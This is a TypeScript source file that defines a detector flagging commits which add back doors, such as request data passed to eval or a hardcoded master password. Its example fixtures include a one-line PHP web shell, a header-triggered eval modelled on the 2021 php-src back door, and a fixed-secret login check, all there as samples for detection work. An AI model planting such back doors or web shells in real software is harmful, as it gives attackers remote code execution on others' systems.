import { z } from "zod";
import { defineDetector, type Signal } from "../../model/detector.ts";
import { aChange, aCommit, aFile } from "../../model/examples.ts";
import { addedSinks } from "../../text/added-sinks.ts";
import { mayHoldSign, signsIn } from "../../text/back-doors.ts";
import { clip } from "../../text/clip.ts";
import { visible } from "../../text/lines.ts";
import { newCode, newText } from "../../text/new-lines.ts";
import { isCode } from "../../text/path-classes.ts";
import { isIdle, placeOf } from "../../text/places.ts";

const RUN = ["ev", "al"].join("");

export default defineDetector({
  id: "trigger-gated-exec",
  title: "A stranger's request decides what the program runs",
  family: "content",
  axis: "attack",
  group: "payload",
  stage: "stable",
  since: "0.1.0",
  rationale:
    "A back door waits for a sign: a header nobody else sends, a parameter, a password that is written into the program. What comes in with a request and is run, or a fixed secret that lets its bearer in, is one.",
  falsePositives: [
    "Consoles and sandboxes whose purpose is to run what a user sends",
    "Demonstrations with a password in the source",
    "Deliberately vulnerable training programs",
  ],
  remedy: "Remove the path, then look in the logs for requests that carried the sign.",
  references: ["CWE-912 Hidden Functionality", "CWE-506", "CWE-798", "php-src 2021", "ATT&CK T1205"],
  needs: ["diff", "content"],
  options: z.strictObject({}),
  examples: {
    flags: [
      {
        name: "a parameter run as code",
        commit: aCommit({
          files: [aFile({ path: "public/a.php", added: `<?php ${RUN}($_POST["x"]);`, at: 1, status: "added" })],
        }),
      },
      {
        name: "a header that switches on a string evaluator",
        commit: aChange(
          "ext/zlib/zlib.c",
          `if ((enc = zend_hash_str_find(Z_ARRVAL(ht), "HTTP_USER_AGENTT"))) {\n  if (strstr(Z_STRVAL_P(enc), "magic")) {\n    zend_${RUN}_string(Z_STRVAL_P(enc)+8, NULL, "x");`,
        ),
      },
      {
        name: "a password in the program that lets its bearer in",
        commit: aChange("src/auth.ts", 'if (password === "s3cr3t-m4ster-key") {\n  return true;\n}'),
      },
    ],
    passes: [
      {
        name: "a header compared with an expected value",
        commit: aChange("src/a.ts", 'if (req.headers["x-kind"] === "json") {\n  return parse(body);\n}'),
      },
      {
        name: "a password compared with a configured one",
        commit: aChange("src/auth.ts", "if (password === config.password) return true;"),
      },
    ],
  },
  detect(commit) {
    return commit.files.flatMap((file): Signal[] => {
      const place = placeOf(file.path);
      if (isIdle(place) || place === "test" || !isCode(file.path)) return [];
      if (!file.facts.script && !mayHoldSign(newText(commit, file))) return [];
      const lines = newCode(commit, file);
      const found: Signal[] = addedSinks(commit, file).flatMap((sink): Signal[] => {
        if (!sink.from.includes("input") || (sink.kind !== "eval" && sink.kind !== "spawn") || /argv/.test(sink.text))
          return [];
        return sink.kind === "eval"
          ? [
              {
                // Names followed over lines are surer in PHP, where a request has names of its own.
                strength:
                  file.facts.script?.by === "tree" || file.facts.script?.language === "php" ? "strong" : "medium",
                confidence: 0.9,
                because: `${clip(sink.callee, 40)} runs what a request carries`,
                path: file.path,
                line: sink.line,
              },
            ]
          : [];
      });
      for (const [i, line] of lines.entries()) {
        const text = visible(line);
        const near = lines
          .slice(i, i + 6)
          .filter((one) => one.number <= line.number + 6)
          .map(visible)
          .join("\n");
        if (found.some((one) => one.line === line.number)) continue;
        found.push(
          ...signsIn(text, near, file.path).map((sign): Signal => ({ ...sign, path: file.path, line: line.number })),
        );
      }
      return found.slice(0, 3);
    });
  },
});
